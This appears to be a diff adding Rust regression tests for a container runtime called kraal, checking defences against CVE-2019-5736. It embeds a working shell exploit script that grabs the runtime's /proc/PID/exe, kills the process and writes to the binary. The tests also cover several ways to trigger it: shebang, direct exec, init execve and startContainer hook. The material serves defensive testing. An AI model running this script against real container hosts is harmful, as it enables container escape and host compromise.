@@ -7,6 +7,7 @@ mod common;
 use common::*;
 use serde_json::json;
 use std::os::unix::fs::symlink;
+use std::time::Duration;
 
 fn create_fails(t: &TestEnv, b: &Bundle, needle: &str) {
     t.k()
@@ -48,6 +49,353 @@ fn cve_2019_5736_runtime_binary_not_reachable_from_container() {
     );
     t.k().run(&["delete", "--force", &b.id]).ok();
     t.k().run(&["delete", "--force", &a.id]).ok();
+    t.assert_clean();
+}
+
+// ---------------------------------------------------------------------------
+// CVE-2019-5736 through an execve: the runtime's image run inside the container
+// ---------------------------------------------------------------------------
+
+/// What the attacker (a busybox shell script in a container) does, as in the published
+/// exploit: find the process whose argv starts with /proc/self/exe and carries `$1`
+/// (the kernel ran the runtime's image for it), hold /proc/PID/exe open, kill it, wait
+/// until the file can be opened for writing (ETXTBSY clears once nothing runs it) and
+/// write through the held fd. Everything it sees goes to /result.
+const ATTACK: &str = r#"mark=$1
+out=/result.tmp
+: > $out
+log() { echo "$*" >> $out; }
+finish() { mv $out /result; exit 0; }
+pid=
+n=0
+while [ -z "$pid" ]; do
+  for d in /proc/[0-9]*; do
+    c=$(tr '\0' ' ' < $d/cmdline 2>/dev/null)
+    case "$c" in "/proc/self/exe "*"$mark"*) pid=${d#/proc/} ;; esac
+  done
+  if [ -z "$pid" ]; then
+    n=$((n+1)); [ $n -gt 600 ] && { log "no target"; finish; }
+    sleep 0.05
+  fi
+done
+log "target $pid"
+if ( : < /proc/$pid/exe ) 2>/dev/null; then exec 3< /proc/$pid/exe; else log "cannot open exe"; finish; fi
+log "link $(readlink /proc/self/fd/3)"
+log "md5 $(md5sum <&3 | cut -d' ' -f1)"
+kill -9 $pid
+n=0
+until err=$( ( : 1<> /proc/self/fd/3 ) 2>&1 ); do
+  case "$err" in *"Read-only"*) log "open for writing: $err"; finish ;; esac
+  n=$((n+1)); [ $n -gt 600 ] && { log "never writable: $err"; finish; }
+  sleep 0.05
+done
+log "opened for writing after $n polls"
+printf PWNED 1<> /proc/self/fd/3 2>/dev/null
+log "head $(head -c 5 /proc/self/fd/3)"
+finish
+"#;
+
+/// Which protected image kraal should end up running from.
+#[derive(Clone, Copy, PartialEq, Debug)]
+enum Seal {
+    /// The read-only detached overlayfs view (the first choice, as root).
+    Overlay,
+    /// The sealed memfd copy: forced by a state root inside the binary's directory,
+    /// which overlayfs refuses as overlapping layers.
+    Memfd,
+}
+
+/// A test environment plus a private copy of the kraal binary: the attacked commands
+/// run that copy, so an attack that works damages only the copy.
+struct ExeAttack {
+    t: TestEnv,
+    seal: Seal,
+    copy: std::path::PathBuf,
+    original: Vec<u8>,
+    md5: String,
+}
+
+impl ExeAttack {
+    fn new(seal: Seal) -> ExeAttack {
+        let mut t = TestEnv::new();
+        let copy = t.dir("bin").join("kraal");
+        if seal == Seal::Memfd {
+            t.kraal.root = t.tmp.join("bin/state");
+        }
+        std::fs::copy(kraal_bin(), &copy).unwrap();
+        let original = std::fs::read(&copy).unwrap();
+        let o = run_timeout(
+            std::process::Command::new("md5sum").arg(&copy),
+            CMD_TIMEOUT,
+            &t.tmp.join("io"),
+        );
+        o.ok();
+        let md5 = o.stdout.split(' ').next().unwrap().to_string();
+        ExeAttack {
+            t,
+            seal,
+            copy,
+            original,
+            md5,
+        }
+    }
+
+    /// A kraal command (with the test's --root) running the copy.
+    #[track_caller]
+    fn run(&self, args: &[&str]) -> Out {
+        let mut c = std::process::Command::new(&self.copy);
+        c.arg("--root").arg(&self.t.k().root).args(args);
+        self.t.k().exec(c)
+    }
+
+    /// A rootfs in which the runtime's ELF can start but blocks: the host's glibc
+    /// loader is there, and the libraries kraal needs are FIFOs, so ld.so waits in
+    /// open() with kraal's image mapped. /bin/sh is the attacker's `#!/proc/self/exe`.
+    fn victim_rootfs(&self, b: &Bundle) {
+        let r = &b.rootfs;
+        let libdir = r.join("lib/x86_64-linux-gnu");
+        std::fs::create_dir_all(&libdir).unwrap();
+        std::fs::create_dir_all(r.join("lib64")).unwrap();
+        let ld = std::fs::canonicalize("/lib64/ld-linux-x86-64.so.2").unwrap();
+        std::fs::copy(&ld, libdir.join("ld-linux-x86-64.so.2")).unwrap();
+        symlink(
+            "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            r.join("lib64/ld-linux-x86-64.so.2"),
+        )
+        .unwrap();
+        let o = run_timeout(
+            std::process::Command::new("ldd").arg(&self.copy),
+            CMD_TIMEOUT,
+            &self.t.tmp.join("io"),
+        );
+        o.ok();
+        let mut fifos = 0;
+        for l in o.stdout.lines() {
+            if let Some((name, _)) = l.trim().split_once(" => ") {
+                nix::unistd::mkfifo(
+                    &libdir.join(name),
+                    nix::sys::stat::Mode::from_bits_truncate(0o644),
+                )
+                .unwrap();
+                fifos += 1;
+            }
+        }
+        assert!(fifos > 0, "kraal needs shared libraries: {o:?}");
+        let sh = r.join("bin/sh");
+        std::fs::remove_file(&sh).unwrap();
+        std::fs::write(&sh, "#!/proc/self/exe\n").unwrap();
+        std::fs::set_permissions(&sh, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    }
+
+    /// Puts the attack script into a rootfs.
+    fn attacker_rootfs(&self, b: &Bundle) {
+        std::fs::write(b.rootfs.join("attack.sh"), ATTACK).unwrap();
+    }
+
+    /// Waits for the attacker's report and checks the outcome: the attacker really
+    /// held the runtime's image (same md5 as the binary), and the binary is unchanged.
+    #[track_caller]
+    fn verdict(&self, attacker: &Bundle) {
+        let res = attacker.rootfs.join("result");
+        if wait_for(Duration::from_secs(60), || res.exists().then_some(())).is_none() {
+            panic!("the attacker never reported");
+        }
+        let report = String::from_utf8_lossy(&std::fs::read(&res).unwrap()).into_owned();
+        eprintln!("attacker's report:\n{report}");
+        assert!(
+            report.contains(&format!("md5 {}", self.md5)),
+            "the attacker did not get hold of the runtime's image, so the attack did not \
+             run: {report}"
+        );
+        let now = std::fs::read(&self.copy).unwrap();
+        assert!(
+            now == self.original,
+            "the kraal binary was modified from inside the container (first bytes now {:?}); \
+             attacker's report: {report}",
+            String::from_utf8_lossy(&now[..16])
+        );
+        // And the protection under test was the one in force.
+        let want = match self.seal {
+            Seal::Overlay => "link /kraal",
+            Seal::Memfd => "link /memfd:kraal (deleted)",
+        };
+        assert!(
+            report.lines().any(|l| l == want),
+            "expected {want:?}: {report}"
+        );
+    }
+}
+
+/// (a) The published exploit: the container's /bin/sh is `#!/proc/self/exe`, and the
+/// host runs `kraal exec CTR /bin/sh`.
+fn exec_shebang(seal: Seal) {
+    let x = ExeAttack::new(seal);
+    let mark = format!("mark-{}", x.t.n);
+    let b = x.t.bundle(&["/bin/busybox", "sh", "/attack.sh", &mark]);
+    x.victim_rootfs(&b);
+    x.attacker_rootfs(&b);
+    x.run(&["create", "--bundle", b.dir.to_str().unwrap(), &b.id])
+        .ok();
+    x.run(&["start", &b.id]).ok();
+    // Killed by the attacker: its status is not the point.
+    x.run(&["exec", &b.id, "/bin/sh", &mark]);
+    x.verdict(&b);
+    x.t.k().run(&["delete", "--force", &b.id]).ok();
+    x.t.assert_clean();
+}
+
+/// (b) `kraal exec CTR /proc/self/exe` directly (a user or tool running the path it
+/// finds in the container).
+fn exec_proc_self_exe(seal: Seal) {
+    let x = ExeAttack::new(seal);
+    let mark = format!("mark-{}", x.t.n);
+    let b = x.t.bundle(&["/bin/busybox", "sh", "/attack.sh", &mark]);
+    x.victim_rootfs(&b);
+    x.attacker_rootfs(&b);
+    x.run(&["create", "--bundle", b.dir.to_str().unwrap(), &b.id])
+        .ok();
+    x.run(&["start", &b.id]).ok();
+    x.run(&["exec", &b.id, "/proc/self/exe", &mark]);
+    x.verdict(&b);
+    x.t.k().run(&["delete", "--force", &b.id]).ok();
+    x.t.assert_clean();
+}
+
+/// Container A (the attacker, via an exec'd process) and container B in A's pid
+/// namespace, whose rootfs is the victim's; `edit_b` makes B run kraal's image.
+fn attack_second_container(x: &ExeAttack, mark: &str, edit_b: impl FnOnce(&mut serde_json::Value)) {
+    let t = &x.t;
+    let a = t.bundle(&["/bin/busybox", "sleep", "300"]);
+    x.attacker_rootfs(&a);
+    x.run(&["create", "--bundle", a.dir.to_str().unwrap(), &a.id])
+        .ok();
+    x.run(&["start", &a.id]).ok();
+    let a_pid = t.k().pid(&a.id);
+    x.run(&[
+        "exec",
+        "-d",
+        &a.id,
+        "/bin/busybox",
+        "sh",
+        "/attack.sh",
+        mark,
+    ])
+    .ok();
+    let mut b = t.bundle(&["/bin/busybox", "true"]);
+    x.victim_rootfs(&b);
+    b.edit(|c| {
+        for n in c["linux"]["namespaces"].as_array_mut().unwrap() {
+            if n["type"] == "pid" {
+                n["path"] = json!(format!("/proc/{a_pid}/ns/pid"));
+            }
+        }
+        edit_b(c);
+    });
+    x.run(&["create", "--bundle", b.dir.to_str().unwrap(), &b.id])
+        .ok();
+    // Returns once the init's execve succeeded (a), or fails when the attacker
+    // kills the hook (b): either way the attacker acts on the process.
+    x.run(&["start", &b.id]);
+    x.verdict(&a);
+    t.k().run(&["delete", "--force", &b.id]).ok();
+    t.k().run(&["delete", "--force", &a.id]).ok();
+    t.assert_clean();
+}
+
+/// (c) The init's own execve: process.args is the container's `#!/proc/self/exe`
+/// /bin/sh; an exec'd process of another container sharing the pid namespace attacks.
+fn init_execve_shebang(seal: Seal) {
+    let x = ExeAttack::new(seal);
+    let mark = format!("mark-{}", x.t.n);
+    let m = mark.clone();
+    attack_second_container(&x, &mark, |c| c["process"]["args"] = json!(["/bin/sh", m]));
+}
+
+/// (d) A startContainer hook runs in the container (after pivot_root, so its path is
+/// the container's): a `#!/proc/self/exe` hook is another execve of kraal's fork.
+fn start_container_hook_shebang(seal: Seal) {
+    let x = ExeAttack::new(seal);
+    let mark = format!("mark-{}", x.t.n);
+    let m = mark.clone();
+    attack_second_container(&x, &mark, |c| {
+        c["hooks"] = json!({"startContainer": [{"path": "/bin/sh", "args": ["sh", m]}]})
+    });
+}
+
+#[test]
+fn cve_2019_5736_exec_shebang_proc_self_exe() {
+    exec_shebang(Seal::Overlay);
+}
+
+#[test]
+fn cve_2019_5736_exec_shebang_proc_self_exe_memfd() {
+    exec_shebang(Seal::Memfd);
+}
+
+#[test]
+fn cve_2019_5736_exec_proc_self_exe_directly() {
+    exec_proc_self_exe(Seal::Overlay);
+}
+
+#[test]
+fn cve_2019_5736_exec_proc_self_exe_directly_memfd() {
+    exec_proc_self_exe(Seal::Memfd);
+}
+
+#[test]
+fn cve_2019_5736_init_execve_shebang() {
+    init_execve_shebang(Seal::Overlay);
+}
+
+#[test]
+fn cve_2019_5736_init_execve_shebang_memfd() {
+    init_execve_shebang(Seal::Memfd);
+}
+
+#[test]
+fn cve_2019_5736_start_container_hook_shebang() {
+    start_container_hook_shebang(Seal::Overlay);
+}
+
+#[test]
+fn cve_2019_5736_start_container_hook_shebang_memfd() {
+    start_container_hook_shebang(Seal::Memfd);
+}
+
+/// With executable memfds forbidden (vm.memfd_noexec=2, set here in a private pid
+/// namespace only): where the memfd copy is the only protection left (state root
+/// inside the binary's directory, so no overlay), create fails with an error naming
+/// the sysctl instead of running unprotected; the overlay form does not need a memfd
+/// (run works), and the commands that stay on the host are not affected.
+#[test]
+fn cve_2019_5736_memfd_noexec_is_a_clear_error() {
+    let x = ExeAttack::new(Seal::Overlay);
+    let t = &x.t;
+    let b = t.bundle(&["true"]);
+    let bin = x.copy.to_str().unwrap();
+    let nested = t.tmp.join("bin/state");
+    let script = format!(
+        "echo 2 > /proc/sys/vm/memfd_noexec || exit 99; \
+         {bin} --root {nested} create --bundle {bd} {id}; echo create=$?; \
+         {bin} --root {nested} list -q; echo list=$?; \
+         {bin} --root {root} run --bundle {bd} {id}; echo run=$?",
+        nested = nested.display(),
+        root = t.k().root.display(),
+        bd = b.dir.display(),
+        id = b.id
+    );
+    let mut c = std::process::Command::new("unshare");
+    c.args(["--pid", "--fork", "sh", "-c", &script]);
+    let o = t.k().exec(c);
+    o.ok();
+    assert!(o.stdout.contains("create=1"), "{o:?}");
+    assert!(o.stdout.contains("list=0"), "{o:?}");
+    assert!(o.stdout.contains("run=0"), "{o:?}");
+    o.stderr_has("vm.memfd_noexec");
+    assert!(
+        std::fs::read_dir(&nested).unwrap().next().is_none(),
+        "the refused create left nothing: {o:?}"
+    );
     t.assert_clean();
 }
 
